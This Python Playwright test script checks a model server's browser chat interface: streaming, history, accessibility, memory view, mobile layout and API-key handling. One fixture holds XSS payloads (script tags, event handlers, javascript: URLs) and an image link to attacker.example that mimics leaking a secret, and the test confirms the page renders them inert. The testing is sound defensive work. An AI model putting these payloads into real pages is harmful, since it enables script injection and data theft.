"""The web page in a browser, served by the real binary: what it promises, looked at from outside.

`.ci/page` runs this file with the browser and the packages it unpacks. Screenshots go to --out.
"""

import argparse
import json
import pathlib
import re
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

import axe_playwright_python
from playwright.sync_api import expect, sync_playwright

WAIT_MS = 120_000
HOSTILE = """# Title <img src=x onerror="window.pwned=1">

<script>window.pwned=1</script> <svg onload="window.pwned=1"><a href="javascript:window.pwned=1">a</a></svg>

[run](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [up](JaVaScRiPt:window.pwned=1)
![stolen](https://attacker.example/leak?q=secret) [fine](https://docs.example/page) https://bare.example/x

| a | <b>b</b> |
|---|---|
| <iframe src="https://attacker.example"></iframe> | `x` |

```html
<script>window.pwned=1</script>
```
"""
PLEASANT = """<think>They want a comparison, with numbers and a short example.</think>Both hold a list in memory; they \
differ in **when** the work is done.

## In short

| | eager list | generator |
|---|---:|---:|
| memory for a million items | 8.4 MB | 0.2 kB |
| first item after | 41 ms | *at once* |

1. Use a **list** when you need `len()` or go through it twice.
2. Use a **generator** when items are used once:
   - reading a file line by line
   - stopping early

```python
def squares(limit):
    for n in range(limit):
        yield n * n

total = sum(squares(1_000_000))  # nothing is stored
```

> Measured on one machine; yours may differ.
"""


class Server:
    """The binary, on a port of its own."""

    def __init__(self, binary, arguments):
        command = [binary, "serve", *arguments, "--port", "0"]
        self.process = subprocess.Popen(command, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.said = []
        found = threading.Event()

        def read(pipe):
            for line in pipe:
                self.said.append(line)
                if match := re.search(r"http://127\.0\.0\.1:\d+", line):
                    self.url = match.group()
                    found.set()

        for pipe in (self.process.stderr, self.process.stdout):
            threading.Thread(target=read, args=(pipe,), daemon=True).start()
        if not found.wait(300):
            self.stop()
            sys.exit("the server did not start:\n" + "".join(self.said))

    def get(self, path):
        with urllib.request.urlopen(self.url + path, timeout=60) as reply:
            return json.load(reply)

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(60)
        except subprocess.TimeoutExpired:
            self.process.kill()


class Load:
    """Requests that fill about seven tenths of the pool, two of them with a common beginning."""

    def __init__(self, server, prompts):
        self.stopping = threading.Event()
        self.threads = [threading.Thread(target=self.ask, args=(server, prompt), daemon=True) for prompt in prompts]
        for thread in self.threads:
            thread.start()

    def ask(self, server, prompt):
        body = {"prompt": prompt, "max_tokens": 6000, "ignore_eos": True, "stream": True, "temperature": 1}
        request = urllib.request.Request(
            server.url + "/v1/completions", json.dumps(body).encode(), {"Content-Type": "application/json"}
        )
        with urllib.request.urlopen(request, timeout=600) as reply:
            for _ in reply:
                if self.stopping.is_set():
                    break

    def stop(self):
        self.stopping.set()
        for thread in self.threads:
            thread.join(120)


class Tab:
    """A page of a browser that notes what it should not see."""

    def __init__(self, browser, server, **context):
        self.server = server
        self.context = browser.new_context(**{"viewport": {"width": 1360, "height": 860}, "locale": "en-GB", **context})
        self.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
        self.page = self.context.new_page()
        self.page.set_default_timeout(WAIT_MS)
        self.strays, self.complaints = [], []
        self.page.on("request", self.note)
        self.page.on("console", lambda message: message.type == "error" and self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))

    def note(self, request):
        if not request.url.startswith((self.server.url, "data:", "blob:")):
            self.strays.append(request.url)

    def open(self, view=""):
        self.page.goto(self.server.url + "/" + view)
        self.page.wait_for_selector("body[data-ready]", state="attached")

    def close(self):
        assert not self.strays, f"loaded from elsewhere: {self.strays}"
        assert not self.complaints, f"the browser complains: {self.complaints}"
        self.context.close()

    def say(self, text):
        self.page.fill("#draft", text)
        self.page.press("#draft", "Enter")

    def answered(self):
        """The last answer, when it is complete."""
        last = self.page.locator("article.assistant").last
        expect(last).to_have_attribute("aria-busy", "false", timeout=WAIT_MS)
        return last

    def set(self, **fields):
        if not self.page.locator("#settings").is_visible():
            self.page.click("#settings-open")
        for name, value in fields.items():
            self.page.fill(f"#set-{name}", value)
            self.page.press(f"#set-{name}", "Tab")
        self.page.keyboard.press("Escape")

    def fits(self):
        wide = self.page.evaluate("document.documentElement.scrollWidth - innerWidth")
        assert wide <= 0, f"{wide} px wider than the screen"


class Axe:
    """Looks for barriers, as axe-core knows them."""

    def __init__(self):
        script = pathlib.Path(axe_playwright_python.__file__).with_name("axe.min.js")
        self.script = script.read_text()

    def check(self, tab, what):
        # Not as an element of the page, whose policy would not allow it.
        tab.page.evaluate(self.script)
        result = tab.page.evaluate("axe.run({resultTypes: ['violations']})")
        found = [
            f"{violation['id']}: {node['html'][:160]} {node['failureSummary']}"
            for violation in result["violations"]
            for node in violation["nodes"]
        ]
        assert not found, f"{what}:\n" + "\n".join(found)
        print(f"  axe {result['testEngine']['version']}: {what}: no violations")


def answer_with(tab, text, status=200, error=None):
    """From now on, answers are these."""

    def reply(route):
        if error:
            body = json.dumps({"error": {"message": error[1], "type": "x", "param": None, "code": error[0]}})
            return route.fulfill(status=status, content_type="application/json", body=body)
        pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
        chunks = [{"model": "scripted", "choices": [{"index": 0, "delta": {"content": piece}}]} for piece in pieces]
        chunks.append({"model": "scripted", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        usage = {"prompt_tokens": 31, "completion_tokens": 214, "prompt_tokens_details": {"cached_tokens": 16}}
        chunks.append({"model": "scripted", "choices": [], "usage": usage})
        events = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
        route.fulfill(status=200, content_type="text/event-stream", body=events)

    tab.page.unroute_all()
    tab.page.route("**/v1/chat/completions", reply)


def conversation(browser, server, axe, out):
    print("chat: streams, stops, regenerates, edits, remembers")
    tab = Tab(browser, server)
    tab.open()
    page = tab.page
    axe.check(tab, "an empty chat")
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    page.keyboard.press("/")
    expect(page.locator("#draft")).to_be_focused()
    page.screenshot(path=out / "chat-empty.png")
    tab.set(temperature="0", **{"max-tokens": "32"})
    tab.say("Write one sentence about the sea.")
    first = tab.answered()
    text = first.locator(".answer").inner_text()
    assert len(text) > 10, text
    expect(first.locator(".stats")).to_contain_text("tok/s")

    first.locator("button[aria-label='Answer again']").click()
    again = tab.answered()
    expect(again.locator(".place")).to_have_text("2/2")
    assert again.locator(".answer").inner_text() == text, "the same greedy request, the same answer"
    again.locator("button[aria-label='Previous answer']").click()
    expect(page.locator(".place")).to_have_text("1/2")

    tab.set(**{"max-tokens": ""})
    tab.say("Count from 1 to 1000, with commas.")
    expect(page.locator("article.assistant .answer").nth(1)).to_have_text(re.compile(".{10}", re.DOTALL))
    page.keyboard.press("Escape")
    expect(tab.answered().locator(".stats")).to_contain_text("stopped")
    deadline = time.monotonic() + 30
    while server.get("/v1/memory/blocks")["running"] > 0:
        assert time.monotonic() < deadline, "a stopped request still runs"
        time.sleep(0.2)

    tab.set(**{"max-tokens": "24"})
    page.locator("article.user").first.hover()
    page.locator("article.user").first.locator("button[aria-label='Edit message']").click()
    page.locator(".edit textarea").fill("Name three colours.")
    page.locator(".edit textarea").press("Enter")
    tab.answered()
    expect(page.locator("article")).to_have_count(2)
    expect(page.locator("article.user")).to_contain_text("Name three colours.")

    page.reload()
    page.wait_for_selector("body[data-ready]", state="attached")
    expect(page.locator("#history-list li")).to_have_count(1)
    with page.expect_download() as download:
        page.click("#history-export")
    page.click("#history-list li >> nth=0 >> .chat-title")
    expect(page.locator("article")).to_have_count(2)
    page.locator("#history-list li").hover()
    page.locator("#history-list button[aria-label^='Delete']").click()
    page.click("#confirm-yes")
    expect(page.locator("#history-list li")).to_have_count(0)
    page.set_input_files("#history-file", download.value.path())
    expect(page.locator("#history-list li")).to_have_count(1)
    tab.close()


def rendering(browser, server, axe, out):
    print("chat: what a model says is shown, and does nothing")
    tab = Tab(browser, server)
    tab.open()
    page = tab.page
    answer_with(tab, HOSTILE)
    tab.say("Be hostile.")
    answer = tab.answered().locator(".answer")
    for forbidden in ("script", "img", "iframe", "b", "svg:not(.icon)"):
        assert answer.locator(forbidden).count() == 0, f"made a {forbidden} of text"
    links = answer.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel])")
    assert [href for href, _ in links] == [
        "https://attacker.example/leak?q=secret",
        "https://docs.example/page",
        "https://bare.example/x",
        "https://attacker.example/",
    ], links
    assert all("noopener" in rel and "noreferrer" in rel for _, rel in links), links
    assert page.evaluate("window.pwned") is None
    expect(answer.locator("pre")).to_have_text("<script>window.pwned=1</script>")

    answer_with(tab, PLEASANT)
    tab.say("What is the difference between a list and a generator in Python?")
    last = tab.answered()
    expect(last.locator("details")).not_to_have_attribute("open", "")
    expect(last.locator("details .prose")).to_contain_text("They want a comparison")
    assert "They want" not in last.locator(".answer").inner_text()
    expect(last.locator(".answer table")).to_have_count(1)
    expect(last.locator(".answer ol > li")).to_have_count(2)
    expect(last.locator(".answer ol ul > li")).to_have_count(2)
    last.locator("figure button").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("def squares(limit):\n    for n")
    time.sleep(1.5)
    last.scroll_into_view_if_needed()
    page.locator("#messages").evaluate("node => { node.scrollTop = node.scrollHeight; }")
    page.screenshot(path=out / "chat.png")
    axe.check(tab, "a chat with answers")
    page.click("#settings-open")
    axe.check(tab, "settings")
    page.screenshot(path=out / "settings.png")
    page.keyboard.press("Escape")
    page.click("#help-open")
    axe.check(tab, "help")
    page.keyboard.press("Escape")
    page.click("#theme")
    page.click("#theme")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    axe.check(tab, "a chat with answers, dark")
    page.screenshot(path=out / "chat-dark.png")

    answer_with(tab, "", 429, ("queue_full", "the engine is full: 3 requests in flight, 3 allowed"))
    tab.say("One too many.")
    error = tab.answered().locator(".error")
    expect(error).to_contain_text("The server is full")
    expect(error).to_contain_text("Try again in a moment")
    axe.check(tab, "an error, dark")
    answer_with(tab, "It works now.")
    error.locator("button").click()
    expect(tab.answered().locator(".answer")).to_have_text("It works now.")
    expect(page.locator(".error")).to_have_count(0)
    # The browser itself reports refused requests; that one was ours.
    tab.complaints = [text for text in tab.complaints if "429" not in text]
    tab.close()


def key(browser, binary, model, axe):
    print("key: asked for, and kept in the tab")
    with tempfile.NamedTemporaryFile("w", suffix=".key") as file:
        file.write("open-sesame\n")
        file.flush()
        server = Server(binary, [*model, "--api-key-file", file.name, "--kv-cache-memory-bytes", "64MiB"])
        try:
            tab = Tab(browser, server)
            tab.open()
            expect(tab.page.locator(".error")).to_contain_text("wants an API key")
            axe.check(tab, "a page without the key")
            tab.page.fill("#set-key", "open-sesame")
            tab.page.press("#set-key", "Tab")
            expect(tab.page.locator(".hello h2")).to_be_visible()
            tab.set(**{"max-tokens": "8"})
            tab.say("Hello")
            assert tab.answered().locator(".answer").inner_text()
            assert "open-sesame" not in tab.page.evaluate("JSON.stringify(localStorage)")
            tab.complaints = [text for text in tab.complaints if "401" not in text]
            tab.close()
        finally:
            server.stop()


def prompts():
    """Distinct texts of about 1,200 tokens and two that begin alike."""
    words = "tide anchor harbour gull mast rope lantern storm sail captain island chart wind night shore".split()
    common = "The log of the ship. " + " ".join(words[at * 7 % 15] for at in range(500)) + ". "
    texts = [
        f"Chapter {number}. " + " ".join(words[(at * (number + 3) + at // 7) % 15] for at in range(1150)) + ". Then"
        for number in range(5)
    ]
    return [common + texts[0][:1200], common + texts[1][:1200], *texts[2:], texts[0], texts[1]]


def used(server):
    map_now = server.get("/v1/memory/blocks")
    counts = map_now["counts"]
    return (counts["owned"] + counts["shared"]) / map_now["blocks"]


def memory(browser, server, axe, out):
    print("memory: the map follows the load")
    tab = Tab(browser, server)
    tab.open("#memory")
    page = tab.page
    canvas = page.locator("canvas")
    expect(canvas).to_have_attribute("aria-label", re.compile("^Map of the KV pool: 0 blocks owned"))
    axe.check(tab, "memory, idle")
    picture = "document.querySelector('canvas').toDataURL()"
    idle = page.evaluate(picture)
    load = Load(server, prompts())
    try:
        deadline = time.monotonic() + 300
        while used(server) < 0.66:
            assert time.monotonic() < deadline, f"only {used(server):.0%} of the pool is in use"
            time.sleep(0.3)
        expect(canvas).not_to_have_attribute("aria-label", re.compile("KV pool: 0 blocks owned"))
        expect(page.locator(".panel-requests tbody tr")).to_have_count(7)
        busy = page.evaluate(picture)
        assert busy != idle, "the map does not show the load"
        # What waits within the page would be evaluated there, which its policy does not allow.
        for _ in range(600):
            if page.evaluate(picture) != busy:
                break
            time.sleep(0.1)
        assert page.evaluate(picture) != busy, "the map stands still under load"
        shared = server.get("/v1/memory/blocks")["counts"]["shared"]
        assert shared > 0, "prefixes that are alike are shared"
        page.locator("#inspect").focus()
        page.keyboard.press("ArrowRight")
        expect(page.locator(".inspected")).to_contain_text(re.compile(r"Block \d+: request \d+|Block \d+: shared"))
        page.locator("#inspect").blur()
        page.screenshot(path=out / "memory.png")
        axe.check(tab, "memory, busy")
        print(f"  {used(server):.0%} of the pool in use on the screenshots")
        page.click("#theme")
        page.click("#theme")
        page.screenshot(path=out / "memory-dark.png", full_page=False)
        axe.check(tab, "memory, busy, dark")
        phone(browser, server, axe, out)
        what_if(tab)
    finally:
        load.stop()
    expect(canvas).to_have_attribute("aria-label", re.compile("^Map of the KV pool: 0 blocks owned"))
    tab.close()


def what_if(tab):
    page = tab.page
    expect(page.locator(".verdict.yes")).to_be_visible()
    before = page.locator(".result").inner_text()
    page.locator("#whatif-memory").focus()
    page.keyboard.press("Home")
    expect(page.locator(".verdict.no")).to_be_visible()
    assert page.locator(".result").inner_text() != before
    page.locator(".result .button").last.click()
    expect(page.locator(".verdict.yes")).to_be_visible()


def phone(browser, server, axe, out):
    print("phone: 360 pixels wide")
    tab = Tab(browser, server, viewport={"width": 360, "height": 740}, device_scale_factor=2, has_touch=True, is_mobile=True)
    tab.open("#memory")
    expect(tab.page.locator(".panel-requests tbody tr")).to_have_count(7)
    tab.fits()
    axe.check(tab, "memory on a phone")
    tab.page.screenshot(path=out / "phone-memory.png")
    tab.page.click("#tab-chat")
    answer_with(tab, PLEASANT)
    tab.page.fill("#draft", "What is the difference between a list and a generator?")
    tab.page.click("#send")
    tab.answered()
    tab.fits()
    axe.check(tab, "chat on a phone")
    tab.page.screenshot(path=out / "phone-chat.png")
    tab.page.click("#history-open")
    expect(tab.page.locator("#history-list li")).to_be_visible()
    axe.check(tab, "conversations on a phone")
    tab.page.screenshot(path=out / "phone-history.png")
    tab.close()


def languages(browser, server, axe, out):
    print("language: by the browser")
    tab = Tab(browser, server, locale="zh-CN", reduced_motion="reduce", color_scheme="dark")
    tab.open()
    expect(tab.page.locator("html")).to_have_attribute("lang", "zh")
    expect(tab.page.locator("#tab-chat")).to_have_text("对话")
    tab.page.click("#tab-memory")
    expect(tab.page.locator("#title-budget")).to_have_text("预算")
    expect(tab.page.locator(".verdict")).to_be_visible()
    unsaid = re.findall(r"^[a-z]+(?:\.[a-z_]+)+$", tab.page.locator("body").inner_text(), re.MULTILINE)
    assert not unsaid, f"keys shown instead of words: {unsaid}"
    axe.check(tab, "memory in Chinese, dark by the system")
    tab.page.screenshot(path=out / "memory-zh.png")
    tab.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--binary", required=True)
    parser.add_argument("--chromium", required=True)
    parser.add_argument("--out", required=True, type=pathlib.Path)
    parser.add_argument("model", nargs="*", help="a model; without one, the default")
    arguments = parser.parse_args()
    arguments.out.mkdir(parents=True, exist_ok=True)
    limits = ["--max-num-seqs", "8", "--kv-cache-memory-bytes", "224MiB"]
    server = Server(arguments.binary, [*arguments.model, *limits])
    axe = Axe()
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=arguments.chromium)
            conversation(browser, server, axe, arguments.out)
            rendering(browser, server, axe, arguments.out)
            languages(browser, server, axe, arguments.out)
            memory(browser, server, axe, arguments.out)
            key(browser, arguments.binary, arguments.model, axe)
            browser.close()
    finally:
        server.stop()
    print(f"page: all is as promised; screenshots in {arguments.out}")


if __name__ == "__main__":
    main()
